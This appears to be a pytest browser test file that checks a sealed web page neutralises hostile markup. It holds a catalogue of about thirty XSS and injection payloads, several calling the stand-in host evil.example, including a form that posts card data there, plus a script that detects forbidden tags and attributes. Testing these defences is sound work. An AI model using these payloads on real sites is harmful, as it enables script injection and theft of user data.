"""A page that holds hostile markup, sealed as it is: what is shown is harmless, with the security policy or without."""

# ruff: noqa: E501 - each piece of markup on one line

import re
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from tests.browser.conftest import PATIENCE
from tests.browser.sealed.conftest import ASKED, FULL, Sealed, doors, empty_site, hosted, write_sealed

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
HOSTILE = {
    "script": "<script>hit = 1</script><script src='{evil}/x.js'></script>",
    "module": "<script type=module>hit = 1</script><script type=importmap>{{}}</script>",
    "image": "<img src=x onerror='hit = 1'><img src={evil}/pixel.png srcset='{evil}/2x.png 2x' alt=p>",
    "svg": "<svg onload='hit = 1'><script>hit = 1</script><use href='{evil}/x.svg#y'/><image href='{evil}/i.png'/></svg>",
    "svg animation": "<svg><a><animate attributeName=href values='javascript:hit=1' /><text>x</text></a></svg>",
    "svg foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></iframe></foreignObject></svg>",
    "xlink": "<svg><a xlink:href='javascript:hit=1'><rect width=9 height=9 /></a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror='hit=1'></style></mglyph></table></mtext></math>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=hit=1>'></noscript><xmp><img src=x onerror=hit=1></xmp>",
    "template": "<template shadowrootmode=open><script>hit = 1</script></template><slot onslotchange=hit=1></slot>",
    "frame": "<iframe src='{evil}/' srcdoc='<script>parent.hit=1</script>'></iframe><frame src={evil}>",
    "object": "<object data='{evil}/o'></object><embed src='{evil}/e'><applet code=x></applet><portal src={evil}></portal>",
    "meta": "<meta http-equiv=refresh content='0;url={evil}/'><meta name=referrer content=unsafe-url>",
    "base": "<base href='{evil}/'><a id=based href='F2026-0050/'>x</a>",
    "link": "<link rel=stylesheet href='{evil}/x.css'><link rel=prefetch href='{evil}/p'><link rel=manifest href=x>",
    "style": "<style>@import '{evil}/x.css'; body {{ display: none }}</style><p style='background:url({evil}/b)'>x</p>",
    "form": "<form action='{evil}/f'><input name=card><button>Pay</button></form><button formaction='{evil}/g'>P</button>",
    "events": "<p onclick=hit=1 onmouseover=hit=1 id=events>x</p><details open ontoggle=hit=1><summary>s</summary></details>",
    "focus": "<input autofocus onfocus='hit = 1'><p tabindex=1 autofocus onfocus=hit=1>x</p>",
    "javascript": "<a class=js href='javascript:hit=1'>x</a><a class=js href=' java\nscript:hit=1'>x</a>",
    "schemes": "<a class=js href='data:text/html,<script>1</script>'>x</a><a class=js href='vbscript:x'>x</a>"
    "<a class=js href='blob:{evil}/x'>x</a><a class=js href='http://evil.example/'>x</a><a class=js href='file:///etc'>x</a>",
    "ping": "<a id=pinged href='https://pay.example/' ping='{evil}/p' target=_top download=x>x</a>",
    "media": "<video src='{evil}/v' poster='{evil}/p' onerror=hit=1></video><audio src='{evil}/a'></audio><track src=x>",
    "dialog": "<dialog open>x</dialog><select><option>y</option></select><marquee onstart=hit=1>z</marquee>",
    "clobber": "<img name=getElementById src=x><a id=body href=x></a><input name=cookie><img id=querySelectorAll name=title>",
    "custom": "<x-evil is=evil onconnected=hit=1>x</x-evil><p is=x-evil contenteditable popover=auto slot=x>y</p>",
    "comment": "<!--><img src=x onerror=hit=1>--><![CDATA[<img src=x onerror=hit=1>]]>",
    "own host": "<img src='/index.html'><img src='../../../c/else/x.png'><a class=js href='/c/otherotherotherotherothero/'>x</a>",
    "nested": "<p><b><i><a href=x><script>hit=1</script><span onclick=hit=1>y</span></a></i></b></p>",
    "plaintext": "<plaintext><script>hit = 1</script>",
}
FORBIDDEN = """() => [...document.querySelectorAll('*')].flatMap((element) => {
  const bad = /^(script|style|link|meta|base|iframe|frame|object|embed|form|template|video|audio|use|image|animate)$/;
  const inBody = document.body.contains(element);
  const names = [...element.attributes].map(({name}) => name);
  return [
    ...(inBody && bad.test(element.localName) ? [element.localName] : []),
    ...names.filter((name) => inBody && /^(on|style$|srcdoc|ping|srcset|formaction|action|is$|target|xlink|autofocus)/.test(name)),
    ...[...element.attributes].filter(({name, value}) => inBody && name === 'href' && !/^(#|https:|mailto:|tel:)/.test(value))
      .map(({value}) => value),
  ];
})"""


def hostile_page(markup: str) -> bytes:
    page = (
        "<!doctype html><html lang=fr><head><title>Hostile</title></head><body class=home><header class=top>t</header>"
    )
    return f"{page}<main id=main tabindex=-1><h1>Shown</h1>{markup}</main></body></html>".encode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sealed:
    site, known = empty_site(tmp_path_factory.mktemp("hostile")), {}
    for name, markup in HOSTILE.items():
        page = hostile_page(markup.format(evil=EVIL))
        known[name] = doors(re.sub(r"\W", "-", name))
        write_sealed(site, replace(FULL, languages=()), known[name], partial(write_home, page=page))
    return Sealed(site, site, known)


FORMS = f"""<form action="{EVIL}/f" method="post"><input name="card"><button>Pay</button></form>
<form action="{ASKED.form}" method="get"><input name="card"></form>
<form action="{ASKED.form}/other" method="post"><input name="card"></form>
<form action="//evil.example/f" method="post"><textarea name="t"></textarea></form>
<form id="own" action="{ASKED.form}" method="post" target="_top" enctype="text/plain" onsubmit="hit = 1" autocomplete="on">
<input name="action" formaction="{EVIL}/f" form="x" list="y" pattern="z"><textarea name="method" oninput="hit = 1"></textarea>
<button type="submit" formaction="{EVIL}/f" formmethod="get" formtarget="_top" name="submit">Send</button></form>
<textarea id="loose" name="t"></textarea><button form="own" formaction="{EVIL}/g">P</button>"""


def test_only_the_form_that_the_shell_names_is_left_and_it_posts_there_alone(
    enter: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    site, its = empty_site(tmp_path_factory.mktemp("forms")), doors("forms")
    write_sealed(site, replace(ASKED, languages=()), its, partial(write_home, page=hostile_page(FORMS)))
    with hosted(site) as base:
        page = enter(Sealed(site, site, {"forms": its}, base).link("forms")).page
        attributes = (
            "nodes => nodes.map(node => [node.localName, ...[...node.attributes].map(({name}) => name)].join(' '))"
        )
        assert page.locator("main form").evaluate_all(attributes) == ["form id action method autocomplete"]
        assert page.locator("form").get_attribute("action") == ASKED.form
        assert page.locator("form *").evaluate_all(attributes) == ["input name", "textarea name", "button type"]
        assert page.locator("main > button").evaluate_all(attributes) == ["button"]
        assert page.locator("main > textarea").evaluate_all(attributes) == ["textarea id name"]


def write_home(folder: Path, page: bytes) -> None:
    (folder / "index.html").write_bytes(page)


def without_policy(path: str, body: bytes) -> bytes:
    return re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", body) if path.endswith("/") else body


@pytest.fixture(scope="module", params=["with policy", "without policy"])
def served(request: Any, hostile: Sealed) -> Iterator[Sealed]:
    bare = request.param == "without policy"
    rewrite = without_policy if bare else lambda _, body: body
    with hosted(hostile.folder, rewrite=rewrite, headers=not bare) as base:
        yield replace(hostile, base=base)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markup_does_nothing(enter: Any, served: Sealed, name: str) -> None:
    visit = enter("about:blank", wait=False)
    page, dialogs = visit.page, list[str]()

    def note(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    page.goto(served.link(name))
    page.wait_for_selector("h1:has-text('Shown')")
    for element in page.locator("main *:not(#pinged)").all():
        for event in ("mouseover", "focus", "toggle"):
            element.dispatch_event(event)
        element.dispatch_event("click")
    page.wait_for_timeout(50)
    assert page.evaluate("window.hit") is None
    assert dialogs == []
    assert page.evaluate(FORBIDDEN) == []
    assert page.url.startswith(served.address(name))
    assert [url for url in visit.asked if not url.startswith((served.base, "about:", "blob:"))] == []


def test_an_external_link_says_nothing_about_where_it_was_followed(enter: Any, served: Sealed) -> None:
    page = enter(served.link("ping")).page
    assert page.locator("#pinged").evaluate("link => [...link.attributes].map(({name}) => name).sort()") == [
        "href",
        "id",
        "rel",
    ]


def test_a_base_element_moves_no_link(enter: Any, served: Sealed) -> None:
    page = enter(served.link("base")).page
    assert page.locator("#based").get_attribute("href") == "#/F2026-0050/"


def test_links_that_lead_nowhere_here_are_text(enter: Any, served: Sealed) -> None:
    for name in ("javascript", "schemes", "own host"):
        page = enter(served.link(name)).page
        hrefs = page.locator("a.js").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
        assert hrefs
        assert set(hrefs) == {None}


def test_nothing_about_the_policy_is_violated(enter: Any, hostile: Sealed) -> None:
    with hosted(hostile.folder) as base:
        for name in ("script", "frame", "meta"):
            visit = enter(replace(hostile, base=base).link(name))
            assert visit.said == []


def test_trusted_types_are_enforced_in_an_open_portal(enter: Any, sealed: Sealed) -> None:
    page = enter(sealed.link()).page
    tried = "() => { try { document.body.innerHTML = '<p>x</p>'; return 'done'; } catch (problem) { return problem.name; } }"
    assert page.evaluate(tried) == "TypeError"
    again = "() => { try { trustedTypes.createPolicy('other', {}); return 'done'; } catch (problem) { return problem.name; } }"
    assert page.evaluate(again) == "TypeError"


@pytest.mark.parametrize("name", ["portal.js", "sealed.js", "sealed.css", "portal.css"])
def test_a_shared_file_that_the_host_changed_is_refused(browser: Any, sealed_site: Sealed, name: str) -> None:
    stem, _, suffix = name.partition(".")

    def rewrite(path: str, body: bytes) -> bytes:
        return body + b"/* changed */" if re.search(rf"/{stem}\.[0-9a-f]+\.{suffix}$", path) else body

    with hosted(sealed_site.folder, rewrite=rewrite) as base:
        context = browser.new_context()
        page = context.new_page()
        with page.expect_console_message(lambda message: "integrity" in message.text, timeout=PATIENCE):
            page.goto(replace(sealed_site, base=base).link())
        context.close()
